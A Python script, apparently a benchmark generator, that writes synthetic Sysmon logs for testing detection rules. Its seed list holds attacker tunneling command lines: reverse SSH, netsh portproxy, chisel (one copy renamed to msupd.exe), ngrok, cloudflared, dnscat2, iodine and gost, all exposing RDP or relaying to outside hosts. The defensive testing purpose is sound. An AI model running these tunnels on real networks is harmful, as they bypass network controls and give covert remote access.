    ("ssh -o RemoteForward", 1, "ssh", dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS,
        CommandLine="ssh.exe -o \"RemoteForward=9001 127.0.0.1:3389\" -N user@{x}")),
    ("netsh portproxy add", 1, "netsh", dict(
        Image=WIN + "netsh.exe", OriginalFileName="netsh.exe", Description="Network Command Shell",
        Product=MSW, Company=MS,
        CommandLine="netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.30.40")),
    ("netsh portproxy abbreviated", 1, "netsh", dict(
        Image=WIN + "netsh.exe", OriginalFileName="netsh.exe", Description="Network Command Shell",
        Product=MSW, Company=MS,
        CommandLine="netsh int p a v4tov4 8443 10.0.0.5 443")),
    ("netsh portproxy set", 1, "netsh", dict(
        Image=WIN + "netsh.exe", OriginalFileName="netsh.exe", Description="Network Command Shell",
        Product=MSW, Company=MS,
        CommandLine="netsh.exe interface portproxy set v4tov6 listenport=3390 connectaddress=fe80::1 connectport=3389")),
    ("sanctioned backup tunnel (benign, example filter)", 1, None, dict(
        Image=WIN + "OpenSSH\\ssh.exe", OriginalFileName="ssh.exe", Description="OpenSSH SSH client",
        Product="OpenSSH for Windows", Company=MS, User="CORP\\svc_backup",
        CommandLine="ssh.exe -N -L 5432:db01.corp.example:5432 svc_backup@bastion.corp.example")),
    ("chisel client", 1, None, dict(
        Image="C:\\Users\\Public\\chisel.exe", OriginalFileName="chisel.exe", Description="",
        Product="", Company="",
        CommandLine="chisel.exe client {x}:443 R:socks")),
    ("chisel renamed", 1, None, dict(
        Image="C:\\ProgramData\\msupd.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="msupd.exe client --fingerprint 3a:1f:9c https://{x} R:3389:127.0.0.1:3389")),
    ("ligolo agent", 1, None, dict(
        Image="C:\\Windows\\Temp\\agent.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="agent.exe -connect {x}:11601 -ignore-cert")),
    ("frpc", 1, None, dict(
        Image="C:\\Users\\{u}\\AppData\\Local\\Temp\\frpc.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="frpc.exe -c frpc.ini")),
    ("ngrok", 1, None, dict(
        Image="C:\\Users\\{u}\\Downloads\\ngrok.exe", OriginalFileName="ngrok.exe", Description="ngrok agent",
        Product="ngrok", Company="ngrok, Inc.",
        CommandLine="ngrok.exe tcp 3389 --authtoken 2bXq9Tz")),
    ("cloudflared", 1, None, dict(
        Image="C:\\ProgramData\\cloudflared\\cloudflared.exe", OriginalFileName="cloudflared.exe", Description="Cloudflare Tunnel daemon",
        Product="cloudflared", Company="Cloudflare, Inc.",
        CommandLine="cloudflared.exe tunnel --url rdp://localhost:3389")),
    ("iodine", 1, None, dict(
        Image="C:\\Tools\\iodine.exe", OriginalFileName="iodine.exe", Description="",
        Product="", Company="",
        CommandLine="iodine.exe -f -P s3cret t1.tunnel.example.net")),
    ("dnscat2", 1, None, dict(
        Image="C:\\Users\\Public\\dnscat2.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="dnscat2.exe --dns server={x},port=53 --secret=7e1d")),
    ("socat", 1, None, dict(
        Image="C:\\cygwin64\\bin\\socat.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="socat.exe TCP4-LISTEN:8443,fork TCP4:10.0.0.5:3389")),
    ("gost", 1, None, dict(
        Image="C:\\Windows\\Temp\\gost.exe", OriginalFileName="", Description="",
        Product="", Company="",
        CommandLine="gost.exe -L=rtcp://:3389/127.0.0.1:3389 -F=relay+tls://{x}:443")),
    ("portproxy registry", 13, None, dict(
        Image=WIN + "svchost.exe", EventType="SetValue",
        TargetObject="HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/4444",
        Details="10.20.30.40/3389")),
    ("chisel network", 3, None, dict(
        Image="C:\\Users\\Public\\chisel.exe", DestinationIp="{x}", DestinationPort=443,
        DestinationHostname="")),
    ("DoH from powershell", 22, None, dict(
        Image=WIN + "WindowsPowerShell\\v1.0\\powershell.exe", QueryName="cloudflare-dns.com",
        QueryResults="::ffff:104.16.248.249;::ffff:104.16.249.249;")),
    ("DNS tunnel query shape", 22, None, dict(
        Image="C:\\Users\\Public\\dnscat2.exe",
        QueryName="7f2c01a9b3e4d5c6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2.e3f4a5b6c7d8e9f0a1b2.t1.tunnel.example.net",
        QueryResults="type:  16 ")),
]

# --------------------------------------------------------------------------
# Templates
# --------------------------------------------------------------------------

SLOT = "\u0001%d\u0001"

EID_META = {
    # eid: (version, task, eventdata keys)
    1: (5, 1, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "FileVersion",
               "Description", "Product", "Company", "OriginalFileName", "CommandLine",
               "CurrentDirectory", "User", "LogonGuid", "LogonId", "TerminalSessionId",
               "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId",
               "ParentImage", "ParentCommandLine", "ParentUser"]),
    3: (5, 3, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "User", "Protocol",
               "Initiated", "SourceIsIpv6", "SourceIp", "SourceHostname", "SourcePort",
               "SourcePortName", "DestinationIsIpv6", "DestinationIp", "DestinationHostname",
               "DestinationPort", "DestinationPortName"]),
    13: (2, 13, ["RuleName", "EventType", "UtcTime", "ProcessGuid", "ProcessId", "Image",
                 "TargetObject", "Details", "User"]),
    22: (5, 22, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "QueryName", "QueryStatus",
                 "QueryResults", "Image", "User"]),
}
SYS_SLOTS = 5  # SystemTime, EventRecordID, ProcessID, ThreadID, Computer


def build_template(eid, pretty):
    """A %-format string for one event: SYS_SLOTS system values, then one
    slot per EventData key, each filled with a JSON-encoded value."""
    version, task, keys = EID_META[eid]
    doc = {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                         "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
            "EventID": eid, "Version": version, "Level": 4, "Task": task, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": SLOT % 0}},
            "EventRecordID": SLOT % 1,
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": SLOT % 2, "ThreadID": SLOT % 3}},
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": SLOT % 4,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        },
        "EventData": {k: SLOT % (SYS_SLOTS + i) for i, k in enumerate(keys)},
    }}
    if pretty:
        text = json.dumps(doc, indent=2, ensure_ascii=False) + "\n"
    else:
        text = json.dumps(doc, separators=(",", ":"), ensure_ascii=False) + "\n"
    text = text.replace("%", "%%")
    for i in range(SYS_SLOTS + len(keys)):
        text = text.replace(jesc(SLOT % i), "%s")
    assert "\u0001" not in text
    return text


# --------------------------------------------------------------------------
# Generator
# --------------------------------------------------------------------------

class Gen:
    def __init__(self, seed, pretty, pool=20000):
        self.rng = rng = random.Random(seed)
        self.t = {eid: build_template(eid, pretty) for eid in EID_META}
        self.users = ["%s.%s" % (rng.choice(FIRST), rng.choice(LAST)) for _ in range(400)]
        self.hosts = []
        for i in range(300):
            name = ("WKS-%04d" % rng.randrange(1, 9999)) if i < 260 else ("SRV-%s" % rng.choice(INTERNAL_HOSTS).upper())
            user = rng.choice(self.users)
            self.hosts.append(dict(
                computer=jesc("%s.%s" % (name, FQDN)),
                user=user,
                guid=hexs(rng, 8),
                ip="10.%d.%d.%d" % (rng.randrange(1, 40), rng.randrange(256), rng.randrange(2, 254)),
                sysmon_pid=str(rng.randrange(1000, 9000)),
                sid=str(rng.randrange(1100, 9000)),
            ))
        self.hashes = {}
        self.rid = 0
        self.usec = 1793491200 * 1_000_000 + rng.randrange(10**6)  # 2026-11-01
        self.sec = -1
        self.prefix_iso = self.prefix_utc = ""
        # Pre-rendered pools: per-event work is picking and %-formatting.
        self.pool = pool
        self.proc_pool = [self._proc_entry() for _ in range(pool)]
        self.net_pool = [self._net_entry() for _ in range(pool)]
        self.dns_pool = [self._dns_entry() for _ in range(pool)]
        self.reg_pool = [self._reg_entry() for _ in range(pool)]
        # EID mix, 128 slots (picked with getrandbits(7)): 22 % process,
        # 30 % network, 26 % DNS, 22 % registry.
        self.mix = [1] * 28 + [3] * 38 + [22] * 34 + [13] * 28

    # ---- helpers -------------------------------------------------------
    def fill(self, s, user):
        rng = self.rng
        if "{" not in s:
            return s
        return s.format(
            u=user, h=rng.choice(INTERNAL_HOSTS), n=rng.randrange(1, 99999),
            d=rng.choice(DOCS), r=rng.choice(REPOS), s=rng.choice(SERVICES),
            g="{%08X-%04X-%04X-%04X-%012X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48)),
            dom=rng.choice(PUBLIC_DOMAINS), p=rng.randrange(400, 30000),
            x=rng.choice(EXT_IPS + EXT_HOSTS))

    def hash_of(self, image):
        h = self.hashes.get(image)
        if h is None:
            r = self.rng
            h = "MD5=%s,SHA256=%s,IMPHASH=%s" % (hexs(r, 32), hexs(r, 64), hexs(r, 32))
            self.hashes[image] = h
        return h

    def pick_user(self, kind):
        """(user name for paths, the User field value) for a user kind."""
        u = self.rng.choice(self.users)
        if kind == "system" or (kind == "any" and self.rng.random() < 0.3):
            return u, self.rng.choice(SYSTEM_USERS) if kind == "any" else "NT AUTHORITY\\SYSTEM"
        return u, "%s\\%s" % (DOMAIN, u)

    # ---- pool entries (JSON-encoded static fields) ---------------------
    def _proc_entry(self):
        rng = self.rng
        p = rng.choices(PROCS, weights=[x[0] for x in PROCS])[0]
        _, image, ofn, desc, prod, comp, ver, parents, ukind, integ, cmds = p
        u, user = self.pick_user(ukind)
        image = image.replace("{u}", u)
        pimg, pcmd = PARENTS[rng.choice(parents)]
        pimg, pcmd = pimg.replace("{u}", u), pcmd.replace("{u}", u)
        cwd = "C:\\Windows\\system32\\" if ukind == "system" else "C:\\Users\\%s\\" % u
        return (jesc(image), jesc(ver), jesc(desc), jesc(prod), jesc(comp), jesc(ofn),
                jesc(self.fill(rng.choice(cmds), u)), jesc(cwd), jesc(user),
                jesc(integ), jesc(self.hash_of(image)), jesc(pimg), jesc(pcmd), jesc(user))

    def _net_entry(self):
        rng = self.rng
        _, image, ports, kind, ukind = rng.choices(NET, weights=[x[0] for x in NET])[0]
        u, user = self.pick_user(ukind)
        port = rng.choice(ports)
        if kind == "dc" or (kind == "mixed" and rng.random() < 0.4) or kind == "internal":
            dh = "%s.%s" % ("dc01" if kind == "dc" else rng.choice(INTERNAL_HOSTS), FQDN)
            dip = "10.0.%d.%d" % (rng.randrange(0, 8), rng.randrange(2, 250))
        else:
            dh = rng.choice(PUBLIC_DOMAINS + [""])
            dip = rng.choice(PUBLIC_IPS) % rng.randrange(1, 254)
        return (jesc(image.replace("{u}", u)), jesc(user),
                jesc("udp" if port in (53, 123, 3478, 3479) else "tcp"),
                jesc(dip), jesc(dh), str(port), jesc(PORT_NAMES.get(port, "")))

    def _dns_entry(self):
        rng = self.rng
        _, image, kind, ukind = rng.choices(DNSPROC, weights=[x[0] for x in DNSPROC])[0]
        u, user = self.pick_user(ukind)
        if kind == "internal" or (kind == "mixed" and rng.random() < 0.4):
            q = "%s.%s" % (rng.choice(INTERNAL_HOSTS), FQDN)
            res = "10.0.%d.%d;" % (rng.randrange(0, 8), rng.randrange(2, 250))
        else:
            q = rng.choice(PUBLIC_DOMAINS)
            res = ";".join("::ffff:" + (rng.choice(PUBLIC_IPS) % rng.randrange(1, 254))
                           for _ in range(rng.randrange(1, 4))) + ";"
        status = "0" if rng.random() < 0.97 else "9003"
        return (jesc(q), jesc(status), jesc(res if status == "0" else ""),
                jesc(image.replace("{u}", u)), jesc(user))

    def _reg_entry(self):
        rng = self.rng
        _, image, key, details, ukind = rng.choices(REG, weights=[x[0] for x in REG])[0]
        u, user = self.pick_user(ukind)
        return (jesc(image), jesc(self.fill(key, u)),
                jesc(self.fill(rng.choice(details), u)), jesc(user))

    # ---- per-event -----------------------------------------------------
    def tick(self):
        self.usec += self.rng.randrange(50, 9000)
        sec, us = divmod(self.usec, 1_000_000)
        if sec != self.sec:
            self.sec = sec
            tm = time.gmtime(sec)
            self.prefix_iso = time.strftime("%Y-%m-%dT%H:%M:%S", tm)
            self.prefix_utc = time.strftime("%Y-%m-%d %H:%M:%S", tm)
        self.rid += 1
        return us

    def common(self, host):
        us = self.tick()
        r = self.rng.getrandbits(32)
        guid = '"{%s-%04X-%04X-%04X-0000000%05X}"' % (
            host["guid"], r & 0xFFFF, r >> 16, self.rid & 0xFFFF, self.rid & 0xFFFFF)
        return ('"%s.%06dZ"' % (self.prefix_iso, us), str(self.rid),
                host["sysmon_pid"], str(4000 + (r & 0x3FF)), host["computer"],
                '"%s.%03d"' % (self.prefix_utc, us // 1000), guid,
                str(400 + (r % 29000)))

    def event(self, eid):
        rng = self.rng
        host = self.hosts[rng.getrandbits(16) % len(self.hosts)]
        st, rid, spid, tid, comp, utc, guid, pid = self.common(host)
        if eid == 1:
            e = self.proc_pool[rng.getrandbits(16) % self.pool]
            pg = guid[:-7] + '%05X}"' % (rng.getrandbits(20))
            return self.t[1] % (st, rid, spid, tid, comp,
                                '"-"', utc, guid, pid, e[0], e[1], e[2], e[3], e[4], e[5], e[6], e[7],
                                e[8], '"{%s-0000-0000-%s-000000000000}"' % (host["guid"], host["sid"]),
                                '"0x%x"' % (0x3e7 if e[8].startswith('"NT') else int(host["sid"]) * 131),
                                "0" if e[8].startswith('"NT') else "1", e[9], e[10], pg,
                                str(400 + (rng.getrandbits(15))), e[11], e[12], e[13])
        if eid == 3:
            e = self.net_pool[rng.getrandbits(16) % self.pool]
            return self.t[3] % (st, rid, spid, tid, comp,
                                '"-"', utc, guid, pid, e[0], e[1], e[2], "true", "false",
                                '"%s"' % host["ip"], comp, str(49152 + rng.getrandbits(14)), '"-"',
                                "false", e[3], e[4], e[5], e[6])
        if eid == 22:
            e = self.dns_pool[rng.getrandbits(16) % self.pool]
            return self.t[22] % (st, rid, spid, tid, comp,
                                 '"-"', utc, guid, pid, e[0], e[1], e[2], e[3], e[4])
        e = self.reg_pool[rng.getrandbits(16) % self.pool]
        return self.t[13] % (st, rid, spid, tid, comp,
                             '"-"', '"SetValue"', utc, guid, pid,
                             e[0], e[1], e[2], e[3])

    def tunnel(self, spec):
        """One tunneling event from a TUNNELS spec."""
        kind, eid, expect, fields = spec
        rng = self.rng
        host = self.hosts[rng.getrandbits(16) % len(self.hosts)]
        u = host["user"]
        f = {k: (self.fill(v, u) if isinstance(v, str) else v) for k, v in fields.items()}
        st, rid, spid, tid, comp, utc, guid, pid = self.common(host)
        user = jesc(f.get("User") or "%s\\%s" % (DOMAIN, u))
        if eid == 1:
            img = f["Image"]
            parent = rng.choice(["cmd", "powershell", "explorer"])
            pimg, pcmd = PARENTS[parent]
            text = self.t[1] % (st, rid, spid, tid, comp,
                                '"-"', utc, guid, pid, jesc(img), jesc(f.get("FileVersion") or "-"),
                                jesc(f["Description"] or "-"), jesc(f["Product"] or "-"),
                                jesc(f["Company"] or "-"), jesc(f["OriginalFileName"] or "-"), jesc(f["CommandLine"]),
                                jesc("C:\\Users\\%s\\" % u), user,
                                '"{%s-0000-0000-%s-000000000000}"' % (host["guid"], host["sid"]),
                                '"0x%x"' % (int(host["sid"]) * 131), "1", '"High"',
                                jesc(self.hash_of(img)), guid[:-7] + '00001}"', str(rng.randrange(400, 30000)),
                                jesc(pimg), jesc(pcmd), user)
        elif eid == 3:
            port = f["DestinationPort"]
            text = self.t[3] % (st, rid, spid, tid, comp,
                                '"-"', utc, guid, pid, jesc(f["Image"]), user, '"tcp"', "true", "false",
                                '"%s"' % host["ip"], comp, str(49152 + rng.getrandbits(14)), '"-"',
                                "false", jesc(f["DestinationIp"]), jesc(f["DestinationHostname"]),
                                str(port), jesc(PORT_NAMES.get(port, "")))
        elif eid == 22:
            text = self.t[22] % (st, rid, spid, tid, comp,
                                 '"-"', utc, guid, pid, jesc(f["QueryName"]), '"0"',
                                 jesc(f["QueryResults"]), jesc(f["Image"]), user)
        else:
            text = self.t[13] % (st, rid, spid, tid, comp,
                                 '"-"', '"SetValue"', utc, guid, pid, jesc(f["Image"]),
                                 jesc(f["TargetObject"]), jesc(f["Details"]), '"NT AUTHORITY\\\\SYSTEM"')
        return text


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--size-gb", type=float, default=2.0, help="total output size in GB (10^9 bytes; default 2)")
    ap.add_argument("--out", required=True, help="output directory (created)")
    ap.add_argument("--format", choices=["jsonl", "evtx-json"], default="jsonl")
    ap.add_argument("--seed", type=int, default=1572)
    ap.add_argument("--tunnels", type=int, default=400, help="tunneling events in total (default 400)")
    ap.add_argument("--files", type=int, default=1, help="split the output into this many files (default 1)")
    a = ap.parse_args()

    pretty = a.format == "evtx-json"
    ext = "json" if pretty else "jsonl"
    stem = "sysmon-%s-%gGB" % (a.format, a.size_gb)
    os.makedirs(a.out, exist_ok=True)
    total = int(a.size_gb * 1e9)
    per_file = -(-total // a.files)

    t0 = time.perf_counter()
    g = Gen(a.seed, pretty)
    rng = g.rng
    # Estimate the mean event size (on a throwaway generator with the same
    # settings, so the real stream is untouched) to spread the tunneling
    # events evenly over the whole corpus.
    probe = Gen(a.seed + 1, pretty, pool=2000)
    sample = sum(len(probe.event(probe.mix[probe.rng.getrandbits(7)]).encode())
                 for _ in range(20000)) / 20000
    # 3 % margin so that every tunneling event lands before the end.
    est_events = max(1, int(0.97 * total / sample))
    positions = sorted(rng.sample(range(est_events), min(a.tunnels, est_events)))
    t_setup = time.perf_counter() - t0

    manifest = {"generator": "bench/gen_corpus.py", "seed": a.seed, "format": a.format,
                "size_gb": a.size_gb, "files": [], "events_by_eid": {"1": 0, "3": 0, "13": 0, "22": 0},
                "tunnel_events": [], "expected_example_rule_alerts": {}}
    n = 0          # events written in total
    next_tunnel = 0
    written = 0
    batch_target = 4 << 20
    for fi in range(a.files):
        name = "%s-%03d.%s" % (stem, fi, ext) if a.files > 1 else "%s.%s" % (stem, ext)
        path = os.path.join(a.out, name)
        limit = min(per_file, total - written)
        fbytes = 0
        line = 1   # 1-based line where the next event starts
        lines_per_event = None
        with open(path, "wb") as fh:
            while fbytes < limit:
                parts = []
                size = 0
                while size < batch_target and fbytes + size < limit:
                    if next_tunnel < len(positions) and positions[next_tunnel] <= n:
                        spec = TUNNELS[rng.randrange(len(TUNNELS))]
                        s = g.tunnel(spec)
                        ln = line + sum(p.count("\n") for p in parts)
                        manifest["tunnel_events"].append(
                            {"file": name, "line": ln, "kind": spec[0], "eid": spec[1], "example_rule": spec[2]})
                        manifest["events_by_eid"][str(spec[1])] += 1
                        next_tunnel += 1
                    else:
                        eid = g.mix[rng.getrandbits(7)]
                        s = g.event(eid)
                        manifest["events_by_eid"][str(eid)] += 1
                    parts.append(s)
                    size += len(s)  # characters; a few values hold '®' (2 bytes)
                    n += 1
                data = "".join(parts).encode()
                fh.write(data)
                fbytes += len(data)
                line += data.count(b"\n")
        written += fbytes
        manifest["files"].append({"name": name, "bytes": fbytes, "lines": line - 1})
    elapsed = time.perf_counter() - t0
    exp = {}
    for t in manifest["tunnel_events"]:
        if t["example_rule"]:
            exp[t["example_rule"]] = exp.get(t["example_rule"], 0) + 1
    manifest["expected_example_rule_alerts"] = exp
    manifest["events"] = n
    manifest["bytes"] = written
    manifest["seconds"] = round(elapsed, 2)
    manifest["mb_per_s"] = round(written / 1e6 / elapsed, 1)
    with open(os.path.join(a.out, stem + ".manifest.json"), "w") as fh:
        json.dump(manifest, fh, indent=1)
    print("wrote %d events, %.1f MB in %d file(s) to %s in %.1f s (%.1f MB/s; setup %.1f s); "
          "%d tunneling events; manifest %s.manifest.json"
          % (n, written / 1e6, a.files, a.out, elapsed, written / 1e6 / elapsed, t_setup,
             len(manifest["tunnel_events"]), stem), file=sys.stderr)


if __name__ == "__main__":
    main()
